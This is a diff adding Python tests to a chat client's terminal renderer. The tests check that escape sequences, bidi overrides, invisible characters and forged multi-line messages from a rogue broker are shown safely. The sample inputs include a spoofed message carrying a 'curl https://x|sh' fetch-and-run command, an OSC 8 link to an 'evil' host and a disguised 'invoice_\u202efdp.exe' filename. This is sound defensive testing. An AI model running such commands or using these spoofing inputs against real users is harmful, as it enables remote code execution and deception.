@@ -115,3 +115,70 @@ def test_tables_and_date_line() -> None:
     for name, _, _ in r.COMMANDS:
         assert name in help_text
     assert r.idle(3_723_000) == "1h02m"
+
+
+# ------------------------------------------ what a rogue broker or peer sends
+
+
+ROGUE = "a\x1b[31mred\x1b]8;;http://evil\x07link\x9b31m"
+
+
+def test_escape_sequences_from_the_network_never_reach_the_terminal() -> None:
+    """Issue 11, row 14: ESC, OSC 8 and C1 CSI in events from a rogue broker
+    reached the terminal. They are shown as markers, styled or not."""
+    ev = msg(ROGUE, sender="ev\x1bil")
+    for out in (plain(r.event_line(ev, me="alice")), styled(r.event_line(ev, me="alice"))):
+        assert "\x1b]" not in out and "\x9b" not in out and "\x07" not in out
+        assert "\x1b[31mred" not in out and "\\x1b" in out
+    assert plain(r.event_line(ev, me="alice")) == (
+        "[12:34:56] #general <ev\\x1bil> a\\x1b[31mred\\x1b]8;;http://evil\\x07link\\x9b31m\n"
+    )
+    # In colour the only escape sequences are rich's own styling.
+    out = styled(r.event_line(ev, me="alice"))
+    assert "\\x1b" in out and "\x1b]8" not in out
+
+
+def test_a_multi_line_text_cannot_pass_for_another_sender() -> None:
+    """Row 14: 'ok\\n[12:00:00] <bob> new VPN: curl ...|sh' printed a line
+    that looked like bob's, with NO_COLOR and in a pipe too."""
+    forged = "ok\n[12:00:00] <bob> new VPN: curl https://x|sh"
+    lines = plain(r.event_line(msg(forged, sender="mallory"), me="alice", current="general"))
+    first, second = lines.splitlines()
+    assert first == "[12:34:56] <mallory> ok"
+    assert (
+        second == " " * len("[12:34:56] <mallory> ") + "[12:00:00] <bob> new VPN: curl https://x|sh"
+    )
+    pm = PmPush(from_="mallory", to="alice", text=forged, ts=TS)
+    assert plain(r.event_line(pm, me="alice")).splitlines()[1].startswith(" " * 10)
+
+
+def test_bidi_overrides_and_invisible_characters_are_shown() -> None:
+    """Row 15: 'invoice_\\u202efdp.exe' reads as 'invoice_exe.pdf'."""
+    out = plain(r.event_line(msg("invoice_\u202efdp.exe z\u200bw\ufeff\u2066x"), me="a"))
+    assert "invoice_<U+202E>fdp.exe z<U+200B>w<U+FEFF><U+2066>x" in out
+    assert "\u202e" not in out and "\u200b" not in out
+    assert plain(r.event_line(msg("été 日本 ok\ttab"), me="a")).endswith("été 日本 ok    tab\n")
+    # Markers stand out from the same characters typed literally.
+    assert "\x1b[7m" in styled(r.visible("x\u202ey"))
+
+
+def test_everything_else_from_the_network_is_made_safe() -> None:
+    topic = TopicEvent(room="general", seq=1, ts=TS, nick="bob", topic="new\x1b[2J\ntopic")
+    assert "\x1b[2J" not in plain(r.event_line(topic, me="a"))
+    assert plain(r.event_line(topic, me="a")).count("\n") == 1
+    assert plain(r.info("topic: \x1b[2Jx\ny")) == "-!- topic: \\x1b[2Jx\\ny\n"
+    assert "\x1b" not in plain(r.error("\x1bbad"))
+    assert "\\x1b" in plain(r.who_table("w", [WhoUser(nick="e\x1bvil", idle_ms=0)]))
+    leave = LeaveEvent(room="general", seq=1, ts=TS, nick="bob", reason="\x1b[5m")
+    assert "\x1b[5m" not in plain(r.event_line(leave, me="a"))
+    notice = Notice(text="shut\x1bdown\nnow")
+    assert plain(r.event_line(notice, me="a")) == "*** shut\\x1bdown\n    now\n"
+
+
+def test_bot_logs_are_safe() -> None:
+    import logging
+
+    record = logging.LogRecord(
+        "zchat.bot", logging.ERROR, "", 0, "failed on %r", ("\x1b[2J",), None
+    )
+    assert "\x1b" not in r.SafeFormatter("%(message)s").format(record)
